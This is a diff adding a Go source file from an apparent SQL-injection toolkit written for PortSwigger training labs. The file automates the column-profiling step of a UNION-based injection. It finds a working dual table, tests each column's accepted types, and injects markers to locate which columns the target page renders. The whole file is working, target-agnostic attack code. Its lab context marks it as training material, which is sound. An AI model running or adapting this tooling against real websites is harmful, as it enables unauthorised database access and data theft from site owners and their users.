@@ -0,0 +1,228 @@
+package sqli
+
+import (
+	"bytes"
+	"fmt"
+	"math/rand"
+	"slices"
+	"strings"
+
+	"github.com/PuerkitoBio/goquery"
+	"github.io/kinasr/pen_payloads/PortSwiggerLabs/SQLi/lab_8/constant"
+	"github.io/kinasr/pen_payloads/PortSwiggerLabs/SQLi/lab_8/logger"
+	"github.io/kinasr/pen_payloads/PortSwiggerLabs/SQLi/lab_8/payload"
+	"github.io/kinasr/pen_payloads/PortSwiggerLabs/SQLi/lab_8/utility"
+)
+
+// ColumnProfile describes what one column of the UNION SELECT accepts and where
+// its value shows up in the page.
+type ColumnProfile struct {
+	Index     int
+	String    bool   // Accepts a string literal
+	Integer   bool   // Accepts an integer literal
+	Date      bool   // Accepts CURRENT_TIMESTAMP
+	Reflected bool   // Value is rendered in the page
+	Element   string // Path of the element that renders the value, e.g. table > tbody > tr > th
+	Offset    int    // Byte offset of the value in the page
+}
+
+// ColumnMap is the profile of every column of the vulnerable query.
+type ColumnMap struct {
+	Columns   []ColumnProfile
+	DualTable string // Table the UNION SELECT needed, empty when none
+}
+
+// Count returns the number of columns.
+func (m ColumnMap) Count() int {
+	return len(m.Columns)
+}
+
+// StringColumns lists the columns that accept strings.
+func (m ColumnMap) StringColumns() []int {
+	var columns []int
+	for _, column := range m.Columns {
+		if column.String {
+			columns = append(columns, column.Index)
+		}
+	}
+	return columns
+}
+
+// ReflectedColumns lists the string columns rendered in the page, in page order.
+func (m ColumnMap) ReflectedColumns() []int {
+	var profiles []ColumnProfile
+	for _, column := range m.Columns {
+		if column.String && column.Reflected {
+			profiles = append(profiles, column)
+		}
+	}
+	slices.SortFunc(profiles, func(a, b ColumnProfile) int { return a.Offset - b.Offset })
+
+	columns := make([]int, len(profiles))
+	for i, profile := range profiles {
+		columns[i] = profile.Index
+	}
+	return columns
+}
+
+// TextColumn returns the first reflected string column, where single values are read from.
+func (m ColumnMap) TextColumn() (int, error) {
+	if reflected := m.ReflectedColumns(); len(reflected) > 0 {
+		return reflected[0], nil
+	}
+	return 0, fmt.Errorf("none of the %d columns renders strings in the page", m.Count())
+}
+
+func (m ColumnMap) String() string {
+	descriptions := make([]string, len(m.Columns))
+	for i, column := range m.Columns {
+		var types []string
+		if column.String {
+			types = append(types, "string")
+		}
+		if column.Integer {
+			types = append(types, "integer")
+		}
+		if column.Date {
+			types = append(types, "date")
+		}
+		if len(types) == 0 {
+			types = append(types, "NULL only")
+		}
+		description := fmt.Sprintf("%d: %s", column.Index, strings.Join(types, "/"))
+		if column.Reflected {
+			description += " reflected in " + column.Element
+		}
+		descriptions[i] = description
+	}
+	return strings.Join(descriptions, ", ")
+}
+
+// ProfileColumns tests every column of the UNION SELECT for string, integer and date
+// compatibility, and injects unique markers to learn which columns the page renders and where.
+// The oracle must be calibrated on a working and a broken query.
+func ProfileColumns(client *utility.HTTPClient, point InjectionPoint, boundary Boundary, oracle Oracle, numOfColumns int) (ColumnMap, error) {
+	if !boundary.TakesClauses() {
+		return ColumnMap{}, fmt.Errorf("the %s boundary is balanced by %q, which UNION SELECT cannot precede", boundary.Context, boundary.Suffix)
+	}
+	profiler := columnProfiler{client: client, point: point, boundary: boundary, oracle: oracle}
+	columns := ColumnMap{Columns: make([]ColumnProfile, numOfColumns)}
+
+	// Find the dual table first, the database is not known yet
+	dualFound := false
+	for _, dualTable := range dualTables() {
+		profiler.dualTable = dualTable
+		response, works, err := profiler.try(payload.NewUnion(constant.Database{}, numOfColumns))
+		if err != nil {
+			return columns, err
+		}
+		if works {
+			logger.Debugf("UNION SELECT works with dual table %q (%d bytes)", dualTable, len(response.Body))
+			dualFound = true
+			break
+		}
+	}
+	if !dualFound {
+		return columns, fmt.Errorf("UNION SELECT with %d columns does not work", numOfColumns)
+	}
+	columns.DualTable = profiler.dualTable
+
+	for index := range columns.Columns {
+		profile, err := profiler.profile(index, numOfColumns)
+		if err != nil {
+			return columns, err
+		}
+		columns.Columns[index] = profile
+	}
+	return columns, nil
+}
+
+// columnProfiler sends the probes of ProfileColumns.
+type columnProfiler struct {
+	client    *utility.HTTPClient
+	point     InjectionPoint
+	boundary  Boundary
+	oracle    Oracle
+	dualTable string
+}
+
+func (p columnProfiler) profile(index int, numOfColumns int) (ColumnProfile, error) {
+	profile := ColumnProfile{Index: index, Offset: -1}
+	union := payload.NewUnion(constant.Database{}, numOfColumns)
+
+	marker := newMarker()
+	response, works, err := p.try(union.Column(index, constant.Quote(marker)))
+	if err != nil {
+		return profile, err
+	}
+	if works {
+		profile.String = true
+		p.locate(&profile, response, marker)
+	}
+
+	number := fmt.Sprint(rand.Intn(900000000) + 100000000)
+	response, works, err = p.try(union.Column(index, number))
+	if err != nil {
+		return profile, err
+	}
+	if works {
+		profile.Integer = true
+		if !profile.Reflected {
+			p.locate(&profile, response, number)
+		}
+	}
+
+	_, profile.Date, err = p.try(union.Column(index, "CURRENT_TIMESTAMP"))
+	if err != nil {
+		return profile, err
+	}
+
+	logger.Debugf("Column %d: string %t, integer %t, date %t, reflected %t", index, profile.String, profile.Integer, profile.Date, profile.Reflected)
+	return profile, nil
+}
+
+// locate records where the marker appears in the page, if it does. The reflected
+// payload is stripped first so only values rendered from the database count.
+func (p columnProfiler) locate(profile *ColumnProfile, response *Response, marker string) {
+	page := NormalizeBody(response.Body, response.Payload)
+	offset := strings.Index(page, marker)
+	if offset < 0 {
+		return
+	}
+	profile.Reflected = true
+	profile.Offset = offset
+	profile.Element = elementPath([]byte(page), marker)
+}
+
+func (p columnProfiler) try(union payload.Union) (*Response, bool, error) {
+	response, err := fetchResponse(p.client, p.point, p.boundary.Wrap(union.From(p.dualTable).String()))
+	if err != nil {
+		return nil, false, err
+	}
+	return response, p.oracle.Evaluate(response), nil
+}
+
+// elementPath returns the path of the innermost element whose text contains the marker,
+// or "text" when it is not inside an HTML element (e.g. a JSON response).
+func elementPath(body []byte, marker string) string {
+	doc, err := goquery.NewDocumentFromReader(bytes.NewReader(body))
+	if err != nil {
+		return "text"
+	}
+
+	var innermost *goquery.Selection
+	doc.Find("body *").Each(func(_ int, selection *goquery.Selection) {
+		if strings.Contains(selection.Text(), marker) {
+			innermost = selection
+		}
+	})
+	if innermost == nil {
+		return "text"
+	}
+
+	path := []string{goquery.NodeName(innermost)}
+	innermost.ParentsUntil("body").Each(func(_ int, parent *goquery.Selection) {
+		path = append([]string{goquery.NodeName(parent)}, path...)
+	})
+	return strings.Join(path, " > ")
+}